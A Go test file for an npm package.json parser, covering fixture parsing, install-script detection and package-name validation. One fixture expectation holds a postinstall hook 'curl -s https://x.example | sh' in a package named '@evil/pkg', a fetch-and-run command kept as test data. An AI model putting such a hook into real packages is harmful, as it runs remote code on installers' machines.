package npm

import (
	"os"
	"reflect"
	"strings"
	"testing"
)

func TestParsePackageJSON(t *testing.T) {
	tests := []struct {
		file string
		want PackageJSON
	}{
		{"testdata/package-full.json", PackageJSON{
			Name: "@evil/pkg", Version: "1.2.3", Main: "index.js", Module: "esm/index.mjs", Browser: "browser.js",
			Scripts:              map[string]string{"preinstall": "node ./setup.js", "postinstall": "curl -s https://x.example | sh", "test": "jest"},
			Bin:                  map[string]string{"pkg": "cli.js"},
			Dependencies:         map[string]string{"left-pad": "^1.3.0"},
			OptionalDependencies: map[string]string{"fsevents": "^2"},
			Gypfile:              true,
			Files:                []string{"lib", "cli.js"},
		}},
		{"testdata/package-odd.json", PackageJSON{
			Name:            "dup-last-wins",
			Bin:             map[string]string{"node": "x.js", "good": "g.js"},
			GypfileDisabled: false,
		}},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			data, err := os.ReadFile(tt.file)
			if err != nil {
				t.Fatal(err)
			}
			got, err := ParsePackageJSON(data)
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("got  %+v\nwant %+v", got, tt.want)
			}
		})
	}
}

func TestParsePackageJSONInline(t *testing.T) {
	tests := []struct {
		name, in string
		want     PackageJSON
		wantErr  string
	}{
		{name: "gypfile false", in: `{"gypfile": false}`, want: PackageJSON{GypfileDisabled: true}},
		{name: "bom", in: "\xef\xbb\xbf{\"name\":\"a\"}", want: PackageJSON{Name: "a"}},
		{name: "bin string unscoped", in: `{"name":"tool","bin":"./bin/tool.js"}`, want: PackageJSON{Name: "tool", Bin: map[string]string{"tool": "./bin/tool.js"}}},
		{name: "bin string no name", in: `{"bin":"x.js"}`, want: PackageJSON{}},
		{name: "empty object", in: `{}`, want: PackageJSON{}},
		{name: "array", in: `[1,2]`, wantErr: "not a JSON object"},
		{name: "string", in: `"x"`, wantErr: "not a JSON object"},
		{name: "null", in: `null`, wantErr: "null"},
		{name: "empty", in: ``, wantErr: "package.json"},
		{name: "truncated", in: `{"name": "a"`, wantErr: "package.json"},
		{name: "trailing garbage", in: `{} x`, wantErr: "package.json"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ParsePackageJSON([]byte(tt.in))
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("err = %v, want containing %q", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("got %+v, want %+v", got, tt.want)
			}
		})
	}
}

func TestImplicitInstallScript(t *testing.T) {
	tests := []struct {
		gyp     bool
		scripts map[string]string
		want    string
	}{
		{true, nil, "node-gyp rebuild"},
		{true, map[string]string{"postinstall": "x"}, "node-gyp rebuild"},
		{true, map[string]string{"install": "node-gyp-build"}, ""},
		{true, map[string]string{"preinstall": "x"}, ""},
		{false, nil, ""},
	}
	for _, tt := range tests {
		if got := ImplicitInstallScript(tt.gyp, tt.scripts); got != tt.want {
			t.Errorf("ImplicitInstallScript(%v, %v) = %q, want %q", tt.gyp, tt.scripts, got, tt.want)
		}
	}
}

func TestInstallScriptsListed(t *testing.T) {
	for _, s := range []string{"preinstall", "install", "postinstall", "prepare"} {
		found := false
		for _, x := range InstallScripts {
			found = found || x == s
		}
		if !found {
			t.Errorf("%q missing from InstallScripts", s)
		}
	}
}

func TestValidName(t *testing.T) {
	valid := []string{"left-pad", "@babel/core", "JSONStream", "lodash.merge", "a", "@s/_x", "x~y", "react-dom", "@types/node", strings.Repeat("a", 214)}
	invalid := []string{"", ".hidden", "_under", "node_modules", "favicon.ico", "has space", " lead", "a/b", "@scope", "@scope/", "@/x",
		"@s/.x", "@./x", "@../x", "@s/a/b", "../x", "ünicode", "a:b", "a%20b", "@s/x y", strings.Repeat("a", 215)}
	for _, n := range valid {
		if !ValidName(n) {
			t.Errorf("ValidName(%q) = false, want true", n)
		}
	}
	for _, n := range invalid {
		if ValidName(n) {
			t.Errorf("ValidName(%q) = true, want false", n)
		}
	}
}
